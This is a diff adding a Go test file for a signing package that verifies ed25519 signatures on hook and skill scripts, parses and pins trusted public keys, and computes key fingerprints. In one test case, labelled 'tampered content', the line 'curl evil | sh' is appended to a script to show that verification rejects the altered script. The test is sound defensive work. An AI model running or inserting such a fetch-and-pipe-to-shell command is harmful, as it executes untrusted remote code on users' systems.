@@ -0,0 +1,134 @@
+package signing
+
+import (
+	"crypto/ed25519"
+	"encoding/base64"
+	"errors"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/zeude/zeude/internal/env"
+	"github.com/zeude/zeude/internal/paths"
+)
+
+// newKey returns a deterministic key pair for seed.
+func newKey(seed byte) (ed25519.PublicKey, ed25519.PrivateKey) {
+	priv := ed25519.NewKeyFromSeed([]byte(strings.Repeat(string(rune('a'+seed)), ed25519.SeedSize)))
+	return priv.Public().(ed25519.PublicKey), priv
+}
+
+func sign(priv ed25519.PrivateKey, kind, content string) string {
+	return base64.StdEncoding.EncodeToString(ed25519.Sign(priv, Message(kind, content)))
+}
+
+func TestVerify(t *testing.T) {
+	pub, priv := newKey(0)
+	other, otherPriv := newKey(1)
+	script := "#!/bin/bash\necho hi\n"
+	valid := sign(priv, KindHook, script)
+
+	tests := []struct {
+		name      string
+		keys      []ed25519.PublicKey
+		kind      string
+		content   string
+		signature string
+		want      error
+	}{
+		{"valid", []ed25519.PublicKey{pub}, KindHook, script, valid, nil},
+		{"valid with surrounding space", []ed25519.PublicKey{pub}, KindHook, script, " " + valid + "\n", nil},
+		{"second pinned key", []ed25519.PublicKey{other, pub}, KindHook, script, valid, nil},
+		{"tampered content", []ed25519.PublicKey{pub}, KindHook, script + "curl evil | sh\n", valid, ErrBadSignature},
+		{"replayed as another kind", []ed25519.PublicKey{pub}, KindSkill, script, valid, ErrBadSignature},
+		{"signed by an unpinned key", []ed25519.PublicKey{pub}, KindHook, script, sign(otherPriv, KindHook, script), ErrBadSignature},
+		{"not base64", []ed25519.PublicKey{pub}, KindHook, script, "!!!", ErrBadSignature},
+		{"truncated", []ed25519.PublicKey{pub}, KindHook, script, valid[:20], ErrBadSignature},
+		{"unsigned", []ed25519.PublicKey{pub}, KindHook, script, "", ErrUnsigned},
+		{"no pinned keys", nil, KindHook, script, valid, ErrNoTrustedKeys},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := Verify(tt.keys, tt.kind, tt.content, tt.signature); !errors.Is(err, tt.want) {
+				t.Errorf("Verify() = %v, want %v", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestParsePublicKey(t *testing.T) {
+	pub, _ := newKey(0)
+	encoded := base64.StdEncoding.EncodeToString(pub)
+	tests := []struct {
+		name    string
+		in      string
+		wantErr bool
+	}{
+		{"valid", encoded, false},
+		{"surrounding space", "  " + encoded + "\n", false},
+		{"not base64", "not a key", true},
+		{"wrong length", base64.StdEncoding.EncodeToString(pub[:16]), true},
+		{"empty", "", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			key, err := ParsePublicKey(tt.in)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ParsePublicKey() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if err == nil && !key.Equal(pub) {
+				t.Errorf("ParsePublicKey() = %x, want %x", key, pub)
+			}
+		})
+	}
+}
+
+func TestPinAndLoadTrusted(t *testing.T) {
+	e := &env.Fake{Home: t.TempDir()}
+	a, _ := newKey(0)
+	b, _ := newKey(1)
+
+	if keys, err := LoadTrusted(e); err != nil || len(keys) != 0 {
+		t.Fatalf("LoadTrusted() with no file = %v, %v; want none", keys, err)
+	}
+	tests := []struct {
+		key       ed25519.PublicKey
+		comment   string
+		wantAdded bool
+	}{
+		{a, "team key", true},
+		{a, "again", false},
+		{b, "", true},
+	}
+	for _, tt := range tests {
+		added, err := Pin(e, tt.key, tt.comment)
+		if err != nil || added != tt.wantAdded {
+			t.Errorf("Pin(%s) = %v, %v; want %v", Fingerprint(tt.key), added, err, tt.wantAdded)
+		}
+	}
+
+	// Comments and malformed lines are skipped
+	path, _ := paths.TrustedKeys(e)
+	f, _ := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0600)
+	f.WriteString("# a comment\n\nnot-a-key\n")
+	f.Close()
+
+	keys, err := LoadTrusted(e)
+	if err != nil {
+		t.Fatalf("LoadTrusted: %v", err)
+	}
+	if len(keys) != 2 || !keys[0].Equal(a) || !keys[1].Equal(b) {
+		t.Errorf("LoadTrusted() = %d keys, want a then b", len(keys))
+	}
+	if info, _ := os.Stat(path); info.Mode().Perm() != 0600 {
+		t.Errorf("trusted_keys mode = %04o, want 0600", info.Mode().Perm())
+	}
+}
+
+func TestFingerprint(t *testing.T) {
+	a, _ := newKey(0)
+	b, _ := newKey(1)
+	if fa := Fingerprint(a); !strings.HasPrefix(fa, "SHA256:") || fa == Fingerprint(b) || fa != Fingerprint(a) {
+		t.Errorf("Fingerprint() = %q, want a stable SHA256: value unique per key", fa)
+	}
+}